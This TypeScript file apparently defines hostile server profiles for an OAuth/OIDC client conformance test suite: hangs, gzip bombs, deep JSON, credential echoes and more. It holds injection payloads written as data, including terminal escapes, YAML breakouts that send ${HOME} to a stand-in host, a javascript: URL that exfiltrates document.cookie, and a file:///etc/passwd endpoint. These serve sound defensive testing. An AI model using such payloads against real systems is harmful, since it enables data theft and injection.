import type { FaultProfile } from './fault-profile.js';
import type { MemberEdit } from './member-edits.js';

const MB = 1024 * 1024;

// What a misconfigured gateway serves in place of what was asked for.
const LOGIN_PAGE =
  '<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body><h1>Sign in</h1>' +
  '<form method="post" action="/login"><input name="username"><input name="password" type="password"></form></body></html>\n';

// Server text built to act on whatever shows it: markdown (a link, a remote image, HTML, a table cell, a heading after a
// bare CR), a terminal (a colour, an OSC 8 hyperlink, an OSC 0 window title, a C1 CSI) and XML (U+FFFF).
export const INJECTED_TEXT =
  ' see [the docs](http://127.0.0.1:1/docs) ![x](http://127.0.0.1:1/pixel.png) <img src="http://127.0.0.1:1/tag.png"> | cell |' +
  '\r# Heading\n- item \u001b[31mred\u001b[0m \u001b]8;;http://127.0.0.1:1/\u0007link\u001b]8;;\u0007 \u001b]0;owned\u0007 \u009b2J \uffff end';

// Each closes the quote, flow map or comment a value would sit in if a suite were written by pasting text, and opens
// its own member: a variable HOME read from the environment, a resource that sends it away, a docs link, a deviation
// that hides a failure. The URLs are also not http(s), or not URLs at all (RFC 3986 has no braces).
export const INIT_INJECTIONS: MemberEdit[] = [
  { op: 'set', member: 'issuer', value: "http://127.0.0.1:1' }\n  HOME: { description: 'injected" },
  {
    op: 'set',
    member: 'end_session_endpoint',
    value: "http://127.0.0.1:1/\nresources:\n  - { name: injected, url: 'http://127.0.0.1:1/?home=${HOME}', grant: system }\n#",
  },
  { op: 'set', member: 'userinfo_endpoint', value: 'http://127.0.0.1:1/me?home=${HOME}' },
  { op: 'set', member: 'revocation_endpoint', value: 'javascript:fetch(`//127.0.0.1:1/?${document.cookie}`)' },
  { op: 'set', member: 'x\ndocs: http://127.0.0.1:1/injected\n#_endpoint', value: 'http://127.0.0.1:1/' },
  { op: 'append', member: 'grant_types_supported', item: "refresh_token\ndeviations: { discovery.issuer-match: 'injected' }" },
  { op: 'append', member: 'scopes_supported', item: "openid' }\n  SCOPE: {}\n#" },
  { op: 'append', member: 'code_challenge_methods_supported', item: 'plain ${HOME}' },
];

/** Profiles whose server misbehaves at the transport level (hostile.ts): they break no rule, but no client may hang or crash on them. */
export const hostileProfiles: FaultProfile[] = [
  {
    name: 'hang',
    description: 'The token endpoint accepts requests and never answers them.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'hang', endpoint: 'token' }],
    hostile: true,
  },
  {
    name: 'slow',
    description: 'Every server of the sandbox answers each request 5 seconds late: slower than a client with a shorter --timeout waits.',
    breaks: [],
    faults: [],
    latencyMs: 5000,
    hostile: true,
  },
  {
    name: 'slow-drip',
    description: 'The discovery document comes one byte every 2 seconds, forever.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'drip', endpoint: 'discovery', intervalMs: 2000 }],
    hostile: true,
  },
  {
    name: 'huge-body',
    description: 'The discovery document is padded with whitespace to 50 MB.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'pad-body', endpoint: 'discovery', bytes: 50 * MB }],
    hostile: true,
  },
  {
    name: 'gzip-bomb',
    description: 'The discovery document is a gzip body that inflates to 100 MB of whitespace.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'gzip-bomb', endpoint: 'discovery', bytes: 100 * MB }],
    hostile: true,
  },
  {
    name: 'not-json',
    description: 'Successful token responses are truncated JSON.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'replace-body', endpoint: 'token', contentType: 'application/json', body: '{"access_token": "abc' }],
    hostile: true,
  },
  {
    name: 'wrong-content-type',
    description: 'The JWKS is an HTML sign-in page, served as text/html.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'replace-body', endpoint: 'jwks', contentType: 'text/html; charset=utf-8', body: LOGIN_PAGE }],
    hostile: true,
  },
  {
    name: 'deep-json',
    description: 'The JWKS is an array nested 100,000 deep ([[[…]]]): valid JSON that overflows any recursive walk.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'replace-body', endpoint: 'jwks', contentType: 'application/json', body: `${'['.repeat(100_000)}${']'.repeat(100_000)}` }],
    hostile: true,
  },
  {
    name: 'flaky-spent',
    description:
      'Every client_credentials token request that succeeds is served, then answered 503 (sent again, it goes through): the client assertion and DPoP proof it carried are spent, so what is sent again must carry new ones.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'overloaded', endpoint: 'token', grantType: 'client_credentials', when: { every: 1 }, status: 503, spent: true }],
    hostile: true,
  },
  {
    name: 'flaky',
    description:
      'The 1st, 4th, 7th… distinct token request and discovery GET are answered 503 without Retry-After (sent again, or with a new code or refresh token, they go through).',
    breaks: [],
    faults: [],
    requestFaults: [
      { kind: 'overloaded', endpoint: 'token', when: { every: 3 }, status: 503 },
      { kind: 'overloaded', endpoint: 'discovery', method: 'GET', when: { every: 3 }, status: 503 },
    ],
    hostile: true,
  },
  {
    name: 'busy-one-time',
    description:
      'The first code redemption and the first refresh are answered 503: a client must start over with a new code or refresh token, never send the spent one again.',
    breaks: [],
    faults: [],
    requestFaults: [
      { kind: 'overloaded', endpoint: 'token', grantType: 'authorization_code', when: { firstPer: 'sandbox' }, status: 503 },
      { kind: 'overloaded', endpoint: 'token', grantType: 'refresh_token', when: { firstPer: 'sandbox' }, status: 503 },
    ],
    hostile: true,
  },
  {
    name: 'rate-limited',
    description: "Each client's first token request is answered 429 with Retry-After: 2.",
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'overloaded', endpoint: 'token', when: { firstPer: 'client' }, status: 429, retryAfter: 2 }],
    hostile: true,
  },
  {
    name: 'injected-text',
    description:
      'Every 400 and 401 JSON error of the token endpoint carries hostile text (markdown, HTML, terminal escapes, U+FFFF) after its error code and as its error_description; its codes are then unregistered (RFC 6749 §5.2), so the checks that judge them fail.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'inject-text', endpoint: 'token', text: INJECTED_TEXT }],
    hostile: true,
  },
  {
    name: 'echo-credentials',
    description:
      "Every 400 and 401 JSON error of the token endpoint echoes the request's Authorization header (Basic base64 of id:secret) and body, as sent and encoded, in its error_description, a `request` member and WWW-Authenticate.",
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'echo-request', endpoint: 'token' }],
    hostile: true,
  },
  ...(
    [
      ['token-bom', 'with a UTF-8 byte-order mark before it', { prefix: '\uFEFF' }],
      ['token-xssi', "with an anti-XSSI prefix )]}' before it", { prefix: ")]}'\n" }],
      ['token-trailing-text', 'with text after it', { suffix: '\n<!-- served by gateway -->' }],
    ] as const
  ).map(([name, how, wrap]): FaultProfile => ({
    name,
    description: `Every successful token response comes ${how}: not strict JSON, yet its tokens are tokens.`,
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'wrap-body', endpoint: 'token', ...wrap }],
    hostile: true,
  })),
  {
    name: 'token-over-cap',
    description: 'Every successful token response is followed by more than 1 MiB of text: cut at the size cap, it is not JSON, yet its tokens are tokens.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'wrap-body', endpoint: 'token', suffix: '-'.repeat(1024 * 1024 + 1) }],
    hostile: true,
  },
  {
    name: 'token-form-text',
    description: 'Every successful token response is form-encoded and labelled text/plain: not the JSON RFC 6749 §5.1 requires, yet its tokens are tokens.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'form-as-text', endpoint: 'token' }],
    hostile: true,
  },
  {
    name: 'echo-session-cookie',
    description: 'Every successful token response sets a session cookie and quotes its value in a `gateway` member.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'echo-session-cookie', endpoint: 'token' }],
    hostile: true,
  },
  {
    name: 'disguised-credentials',
    description:
      'Every successful token response also carries its access token as accessToken, AccessToken, ACCESS_TOKEN, access-token and in base64, a made-up session and apiKey, and a JWT whose header does not start with eyJ.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'disguise-credentials', endpoint: 'token' }],
    hostile: true,
  },
  {
    name: 'reset',
    description: 'The connection of the first JWKS GET is reset halfway through the response.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'reset-connection', endpoint: 'jwks', method: 'GET', when: { firstPer: 'sandbox' } }],
    hostile: true,
  },
  {
    name: 'file-authorization-endpoint',
    description: 'The discovery document names file:///etc/passwd as its authorization_endpoint: a browser login must not open it (suite local-browser).',
    breaks: [],
    faults: [{ kind: 'edit-body', endpoint: 'discovery', op: 'set', member: 'authorization_endpoint', value: 'file:///etc/passwd' }],
    hostile: true,
  },
  {
    name: 'init-injection',
    description:
      "The discovery document's values are YAML and ${VARIABLE} references built to break out of a suite written from them (`conformance init`): " +
      'a variable HOME, a resource that sends ${HOME} away, a docs link and a deviation, and javascript: and ${HOME} URLs as endpoints.',
    breaks: [],
    faults: INIT_INJECTIONS.map((edit) => ({ kind: 'edit-body', endpoint: 'discovery', ...edit })),
    hostile: true,
  },
  {
    name: 'echo-password',
    description: 'As wrong-password, and the sign-in page shows the typed password as text in its error (suite local-browser).',
    breaks: [],
    faults: [],
    wrongPassword: true,
    echoPassword: true,
    hostile: true,
  },
  {
    name: 'code-in-page',
    description: 'The authorization response is an HTML page, not a redirect: the code comes in a Refresh header, a meta refresh and a form_post form.',
    breaks: [],
    faults: [],
    requestFaults: [{ kind: 'redirect-back-as-page' }],
    hostile: true,
  },
];
